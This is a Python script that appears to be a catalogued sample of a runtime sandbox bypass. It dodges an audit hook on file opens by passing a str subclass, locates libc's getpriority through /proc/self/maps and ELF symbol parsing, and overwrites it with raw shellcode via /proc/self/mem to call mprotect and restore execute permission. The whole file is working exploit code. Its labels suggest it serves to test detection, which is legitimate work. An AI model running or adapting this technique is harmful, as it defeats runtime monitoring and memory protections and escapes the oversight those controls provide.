# family: procmem
# reaches: native_code
# layer: runtime
# static: missed
# The hook checks an "open" path only when it is exactly a str: a str subclass passes as if it
# were a file descriptor. Code written through /proc/self/mem makes its own page executable again
# (mprotect with PROT_EXEC), after it already ran.
import os
import struct


def libc_function(name):
    """The address of a libc function in this process, from /proc/self/maps and libc's symbols."""
    for line in open("/proc/self/maps"):
        f = line.split()
        if len(f) >= 6 and "/libc.so" in f[5] and int(f[2], 16) == 0:
            base, path = int(f[0].split("-")[0], 16), f[5]
            break
    data = open(path, "rb").read()
    shoff, = struct.unpack_from("<Q", data, 0x28)
    shentsize, shnum = struct.unpack_from("<HH", data, 0x3A)
    sections = [struct.unpack_from("<IIQQQQIIQQ", data, shoff + i * shentsize) for i in range(shnum)]
    for s in sections:
        if s[1] == 11:  # SHT_DYNSYM
            strtab = sections[s[6]][4]
            for off in range(s[4], s[4] + s[5], 24):
                st_name, _, _, _, value, _ = struct.unpack_from("<IBBHQQ", data, off)
                start = strtab + st_name
                if data[start:data.index(b"\0", start)] == name:
                    return base + value
    raise LookupError(name)


class Path(str):
    pass


with open(Path("/proc/self/mem"), "r+b", buffering=0) as mem:
    mem.seek(libc_function(b"getpriority"))
    # mprotect(this page, 4096, PROT_READ|PROT_EXEC); ret
    mem.write(bytes.fromhex("488d3d000000004881e700f0ffffbe00100000ba05000000b80a0000000f05c3"))
print("mprotect returned", os.getpriority(0, 0))
